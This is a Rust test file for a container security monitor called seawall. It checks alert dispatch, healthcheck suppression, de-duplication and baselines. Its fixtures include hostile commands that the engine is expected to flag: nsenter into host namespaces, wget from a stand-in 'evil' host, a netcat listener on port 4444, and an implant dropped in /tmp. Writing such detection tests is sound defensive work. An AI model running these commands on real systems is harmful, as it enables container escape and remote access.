//! Engine-level tests: dispatch, suppression of seawall's own noise and healthchecks,
//! de-duplication, and state kept across calls.

use super::test_support::{event, event_at};
use super::*;
use crate::model::{ChangeKind, EventKind};
use crate::risk::rules::test_support;

fn host() -> HostFacts {
    HostFacts::default()
}

fn exec(id: &str, container: &str, cmd: &[&str], user: &str, tty: bool) -> ExecFacts {
    ExecFacts {
        id: id.into(),
        container_id: container.into(),
        command: cmd.iter().map(|s| s.to_string()).collect(),
        user: user.into(),
        privileged: false,
        tty,
        running: false,
        exit_code: Some(0),
    }
}

fn rules(alerts: &[Alert]) -> Vec<&str> {
    alerts.iter().map(|a| a.rule.as_str()).collect()
}

#[test]
fn top_and_exec_events_never_alert_themselves() {
    let c = test_support::container("{}");
    let mut e = Engine::new();
    for action in [
        "top",
        "exec_create: bash",
        "exec_start: nsenter -t 1 -a sh",
        "exec_die",
        "exec_detach",
        "start",
        "create",
        "destroy",
    ] {
        let ev = event(
            EventKind::Container,
            action,
            &c.id,
            &[("execID", "x1"), ("name", "web")],
        );
        assert!(e.on_event(&ev, Some(&c), &host()).is_empty(), "{action}");
    }
}

#[test]
fn event_alerts_carry_the_event_time_and_the_container_name() {
    let mut e = Engine::new();
    let ev = event_at(
        EventKind::Container,
        "archive-path",
        "c1",
        &[("name", "/web")],
        1_700_000_000,
    );
    let a = e.on_event(&ev, None, &host());
    assert_eq!(rules(&a), ["SW-ACT-XFER-002"]);
    assert_eq!(a[0].time.timestamp(), 1_700_000_000);
    assert_eq!(
        a[0].container,
        Some(ContainerRef {
            id: "c1".into(),
            name: "web".into()
        })
    );
    let img = event(EventKind::Image, "load", "sha256:1", &[("name", "x:1")]);
    let a = e.on_event(&img, None, &host());
    assert_eq!(rules(&a), ["SW-ACT-IMG-004"]);
    assert_eq!(a[0].container, None);
    for (kind, action) in [
        (EventKind::Daemon, "reload"),
        (EventKind::Plugin, "enable"),
        (EventKind::Network, "connect"),
        (EventKind::Volume, "mount"),
        (EventKind::Other("builder".into()), "prune"),
    ] {
        let got = e.on_event(&event(kind.clone(), action, "x", &[]), None, &host());
        let want = !matches!(kind, EventKind::Volume | EventKind::Other(_));
        assert_eq!(!got.is_empty(), want, "{kind:?} {action}");
    }
}

#[test]
fn execs_are_classified_once_and_healthchecks_are_not_reported() {
    let plain = test_support::container("{}");
    let hc = test_support::container(
        r#"{"Id": "hc1", "Name": "/api", "Config": {"Healthcheck": {"Test": ["CMD-SHELL", "wget -q -O /dev/null http://localhost/"]}}}"#,
    );
    let mut e = Engine::new();
    let now = DateTime::UNIX_EPOCH;

    let shell = exec("e1", &plain.id, &["bash"], "", true);
    assert_eq!(
        rules(&e.on_exec_at(&shell, Some(&plain), now)),
        ["SW-ACT-EXEC-001"]
    );
    assert!(
        e.on_exec_at(&shell, Some(&plain), now).is_empty(),
        "once per exec id"
    );

    // Healthcheck probe, Test unknown: recognised by shape.
    let probe = exec(
        "e2",
        "hc1",
        &["/bin/sh", "-c", "wget -q -O /dev/null http://localhost/"],
        "",
        false,
    );
    assert!(e.on_exec_at(&probe, Some(&hc), now).is_empty());
    // Same, rebuilt from the event payload (split at spaces).
    let rebuilt = exec(
        "e3",
        "hc1",
        &[
            "/bin/sh",
            "-c",
            "wget",
            "-q",
            "-O",
            "/dev/null",
            "http://localhost/",
        ],
        "",
        false,
    );
    assert!(e.on_exec_at(&rebuilt, Some(&hc), now).is_empty());
    // A user's tty shell in the same container is reported.
    let user = exec("e4", "hc1", &["sh"], "", true);
    assert_eq!(
        rules(&e.on_exec_at(&user, Some(&hc), now)),
        ["SW-ACT-EXEC-001"]
    );

    // With the Test known: the exact probe is silent, a look-alike is not.
    e.note_healthcheck(
        "hc1",
        vec![
            "CMD-SHELL".into(),
            "wget -q -O /dev/null http://localhost/".into(),
        ],
    );
    let probe = exec(
        "e5",
        "hc1",
        &["/bin/sh", "-c", "wget -q -O /dev/null http://localhost/"],
        "",
        false,
    );
    assert!(e.on_exec_at(&probe, Some(&hc), now).is_empty());
    let other = exec(
        "e6",
        "hc1",
        &["/bin/sh", "-c", "wget -q http://evil/x"],
        "",
        false,
    );
    assert_eq!(
        rules(&e.on_exec_at(&other, Some(&hc), now)),
        ["SW-ACT-EXEC-008"]
    );

    // exec events of a known probe mark its exec id, even without container facts later.
    let ev = event(
        EventKind::Container,
        "exec_start: /bin/sh -c wget -q -O /dev/null http://localhost/",
        "hc1",
        &[("execID", "e7")],
    );
    assert!(e.on_event(&ev, Some(&hc), &host()).is_empty());
    let probe = exec(
        "e7",
        "hc1",
        &["/bin/sh", "-c", "wget -q -O /dev/null http://localhost/"],
        "",
        false,
    );
    assert!(e.on_exec_at(&probe, None, now).is_empty());
}

#[test]
fn launches_alert_once_per_docker_run_and_again_on_a_late_start() {
    let overlay = r#"{"HostConfig": {"Privileged": true}}"#;
    let c = test_support::container(overlay);
    let findings = test_support::findings_for(overlay);
    let mut e = Engine::new();
    let t0 = DateTime::UNIX_EPOCH;
    let at = |s: i64| t0 + chrono::Duration::seconds(s);
    assert_eq!(
        rules(&e.on_inspected_at("create", &c, &findings, at(0))),
        ["SW-ACT-LAUNCH-001"]
    );
    assert!(e.on_inspected_at("create", &c, &findings, at(1)).is_empty());
    // `docker run`: the start right after the create is the same launch.
    assert!(e.on_inspected_at("start", &c, &findings, at(2)).is_empty());
    // A start well after the create is news: the container now runs.
    assert_eq!(
        rules(&e.on_inspected_at("start", &c, &findings, at(8))),
        ["SW-ACT-LAUNCH-001"]
    );
    assert!(
        e.on_inspected_at("restart", &c, &findings, at(9))
            .is_empty()
    );
    assert!(
        e.on_inspected_at("update", &c, &findings, at(20))
            .is_empty()
    );
}

#[test]
fn copy_in_then_new_executable_is_raised() {
    let c = test_support::container("{}");
    let mut e = Engine::new();
    let ev = event_at(EventKind::Container, "start", &c.id, &[], 100);
    e.on_event(&ev, Some(&c), &host());
    let cp = event_at(EventKind::Container, "extract-to-dir", &c.id, &[], 200);
    assert_eq!(
        rules(&e.on_event(&cp, Some(&c), &host())),
        ["SW-ACT-XFER-001"]
    );
    let changes = vec![FileChange {
        path: "/tmp/implant".into(),
        kind: ChangeKind::Added,
    }];
    let soon = DateTime::from_timestamp(260, 0).expect("time");
    let a = e.on_changes_at(&c, &changes, soon);
    assert_eq!(rules(&a), ["SW-ACT-DRIFT-003"]);
    assert_eq!(a[0].score_bump, 25);
    assert!(
        !a[0].detail.contains("present when seawall started"),
        "{}",
        a[0].detail
    );
    // Reported once, also after the engine is told nothing new.
    assert!(e.on_changes_at(&c, &changes, soon).is_empty());
    // Long after the copy, a new file is ordinary drift.
    let later = DateTime::from_timestamp(200 + COPY_IN_WINDOW_SECS + 1, 0).expect("time");
    let more = vec![FileChange {
        path: "/tmp/other".into(),
        kind: ChangeKind::Added,
    }];
    assert_eq!(
        rules(&e.on_changes_at(&c, &more, later)),
        ["SW-ACT-DRIFT-002"]
    );
}

#[test]
fn forget_drops_every_baseline() {
    let c = test_support::container("{}");
    let mut e = Engine::new();
    let now = DateTime::UNIX_EPOCH;
    let changes = vec![FileChange {
        path: "/etc/passwd".into(),
        kind: ChangeKind::Modified,
    }];
    assert_eq!(e.on_changes_at(&c, &changes, now).len(), 1);
    assert!(e.on_changes_at(&c, &changes, now).is_empty());
    e.forget(&c.id);
    let a = e.on_changes_at(&c, &changes, now);
    assert_eq!(a.len(), 1);
    assert!(
        a[0].detail
            .ends_with("(present when seawall started watching)")
    );
}

#[test]
fn restarts_reset_the_process_baseline_and_execs_are_linked() {
    let c = test_support::container("{}");
    let mut e = Engine::new();
    let now = DateTime::UNIX_EPOCH;
    let main = ProcessRow {
        pid: "10".into(),
        user: "root".into(),
        command: "sleep 1000".into(),
    };
    let nc = ProcessRow {
        pid: "20".into(),
        user: "root".into(),
        command: "nc -l -p 4444".into(),
    };
    assert!(
        e.on_processes_at(&c, std::slice::from_ref(&main), now)
            .is_empty()
    );
    let x = exec("e1", &c.id, &["nc", "-l", "-p", "4444"], "", false);
    assert_eq!(rules(&e.on_exec_at(&x, Some(&c), now)), ["SW-ACT-EXEC-009"]);
    let a = e.on_processes_at(&c, &[main.clone(), nc.clone()], now);
    assert_eq!(rules(&a), ["SW-ACT-PROC-004"]);
    assert!(
        a[0].detail.contains("started by docker exec"),
        "{}",
        a[0].detail
    );
    // A restart: the next poll sets a new baseline around the new main process.
    let ev = event(EventKind::Container, "restart", &c.id, &[]);
    e.on_event(&ev, Some(&c), &host());
    let main2 = ProcessRow {
        pid: "30".into(),
        user: "root".into(),
        command: "sh".into(),
    };
    assert!(e.on_processes_at(&c, &[main2], now).is_empty());
}

#[test]
fn bind_volumes_are_graded() {
    let mut e = Engine::new();
    let a = e.on_bind_volume_at("data", "/var/run/docker.sock", DateTime::UNIX_EPOCH);
    assert_eq!(
        (a[0].rule.as_str(), a[0].severity),
        ("SW-ACT-VOL-001", Severity::Critical)
    );
}
